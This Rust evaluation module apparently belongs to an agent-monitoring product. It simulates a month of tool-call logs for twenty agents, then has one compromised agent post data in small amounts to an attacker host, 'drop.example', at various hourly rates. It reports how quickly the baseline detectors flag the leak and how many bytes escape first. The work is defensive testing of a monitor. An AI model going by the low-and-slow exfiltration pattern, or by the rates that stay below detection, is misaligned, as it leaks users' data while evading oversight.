//! An attacker who sends a little at a time to a destination of its own, found by the product's baselines as they follow a log.
//!
//! No public traces of agents have times and amounts over weeks, so the log is made up: twenty agents of a role post to forty old
//! destinations and now and then to a new one, by working hours.

use std::collections::{BTreeMap, BTreeSet};

use bailiwick_core::detect::baseline::{Baselines, Budget, Oddity, fingerprint};
use bailiwick_core::model::{AgentName, Record, Timestamp};
use bailiwick_log::Position;
use serde_json::json;

use crate::Result;
use crate::table::Table;

const AGENTS: u64 = 20;
const DAYS: i64 = 90;
const DAY_S: i64 = 24 * 3600;

/// How long the attacker goes on.
const ATTACKED_DAYS: i64 = 28;

const DIGEST: &str = "sha256:0b1c2d3e4f5061728394a5b6c7d8e9f00b1c2d3e4f5061728394a5b6c7d8e9f0";

#[derive(Clone)]
struct World {
    baselines: Baselines,
    position: u64,
    executions: u64,
    now_s: i64,
}

impl World {
    fn new() -> Result<Self> {
        let mut baselines = Baselines::new("acme.example", Budget::default());
        let member = |number: u64| Ok((format!("poster-{number}").parse()?, BTreeSet::from(["poster".to_owned()])));
        baselines.set_members((0..AGENTS).map(member).collect::<Result<BTreeMap<AgentName, _>>>()?);
        Ok(Self { baselines, position: 0, executions: 0, now_s: 1_800_000_000 })
    }

    fn record(&mut self, mut record: serde_json::Value) -> Result<Vec<Oddity>> {
        if let Some(members) = record.as_object_mut() {
            members.insert("at".to_owned(), json!(Timestamp::from_second(self.now_s)?));
        }
        let record: Record = serde_json::from_value(record)?;
        self.position += 1;
        Ok(self.baselines.fold(Position(self.position - 1), &record))
    }

    /// One execution: a look, and a post of so many bytes to a host. What the attacker posts, the model has encoded: no result shows it.
    fn post(&mut self, agent: u64, host: &str, bytes: usize) -> Result<Vec<Oddity>> {
        self.executions += 1;
        let execution = format!("{:08x}-0000-7000-8000-000000000000", self.executions);
        let (agent, subject) = (format!("poster-{agent}"), format!("user:{agent}"));
        self.record(json!({ "kind": "execution_started", "bundle": DIGEST, "execution": execution, "agent": agent, "subject": subject,
            "grant": [], "token": "t", "expires": "2100-01-01T00:00:00Z", "proof": "test" }))?;
        let body = "b".repeat(bytes);
        let calls =
            [("web/look", "read", json!({ "n": 10 })), ("web/post", "send", json!({ "url": format!("https://{host}/in"), "body": body }))];
        let mut odd = Vec::new();
        for (tool, effect, arguments) in calls {
            let answer = json!({ "holds": null, "because": "" });
            odd.extend(self.record(
                json!({ "kind": "intent", "bundle": DIGEST, "state": 0, "execution": execution, "sequence": 0, "agent": agent, "tool": tool,
                "effect": effect, "protocol": "mcp", "method": "tools/call", "arguments_digest": DIGEST, "arguments": arguments,
                "facts": { "calls": 1, "labels": { "integrity": "trusted" } }, "verdict": "allow", "code": "allowed",
                "answers": { "reasonable": answer, "role": answer, "delegation": answer, "normal": answer } }),
            )?);
        }
        Ok(odd)
    }

    /// What one agent does in one hour of a working day.
    fn work(&mut self, agent: u64, hour: i64) -> Result<Vec<Oddity>> {
        let dice = fingerprint(&format!("{agent} {hour}"));
        // About a customer a week is new.
        let customer = if dice.is_multiple_of(400) { 40 + self.now_s.unsigned_abs() / (7 * DAY_S.unsigned_abs()) } else { dice % 40 };
        // From 200 bytes to 12 KB, most of them small.
        let bytes = 200.0 * 2.0_f64.powf((dice >> 32) as f64 / f64::from(u32::MAX) * 6.0);
        self.post(agent, &format!("customer-{customer}.example"), bytes as usize)
    }
}

/// Prints how much got out before it was said, by how much the attacker sends each hour.
pub(super) fn evaluate() -> Result {
    let mut world = World::new()?;
    let begin = world.now_s - world.now_s % DAY_S;
    let mut false_alerts = 0;
    let mut executions = 0_u64;
    for hour in (0..DAYS * 24).filter(|hour| (8..17).contains(&(hour % 24))) {
        for agent in 0..AGENTS {
            // Two in three hours it has nothing to do.
            if fingerprint(&format!("{hour} {agent}")).is_multiple_of(3) {
                world.now_s = begin + hour * 3600 + i64::try_from(agent)? * 150;
                false_alerts += world.work(agent, hour)?.len();
                executions += 1;
            }
        }
    }
    let mut table = Table::new(&[
        "bytes an hour to a destination of the attacker's",
        "said after",
        "bytes out by then",
        "by",
        "bytes out in 28 days, if not said",
    ]);
    for bytes in [16_usize, 64, 256, 1_024, 4_096, 16_384, 65_536, 262_144] {
        let mut world = world.clone();
        let mut said = None;
        for hour in (DAYS * 24..(DAYS + ATTACKED_DAYS) * 24).filter(|hour| (8..17).contains(&(hour % 24))) {
            world.now_s = begin + hour * 3600;
            world.work(3, hour)?;
            let odd = world.post(3, "drop.example", bytes)?;
            if let Some(odd) = odd.first() {
                let hours = hour - DAYS * 24 - 8;
                let working = hours / 24 * 9 + hours % 24 + 1;
                said = Some((
                    format!("{} d {} h", hours / 24, hours % 24),
                    working * bytes as i64,
                    odd.finding().detector.catalogue.unwrap_or_default(),
                ));
                break;
            }
        }
        let whole = (ATTACKED_DAYS * 9 * bytes as i64).to_string();
        table.row(match said {
            Some((after, out, by)) => [bytes.to_string(), after, out.to_string(), by, String::new()],
            None => [bytes.to_string(), "not within 28 days".to_owned(), "-".to_owned(), "-".to_owned(), whole],
        });
    }
    println!(
        "A little at a time, on a log that is made up; on its {executions} executions before the attack there were {false_alerts} alerts\n\n{table}"
    );
    Ok(())
}
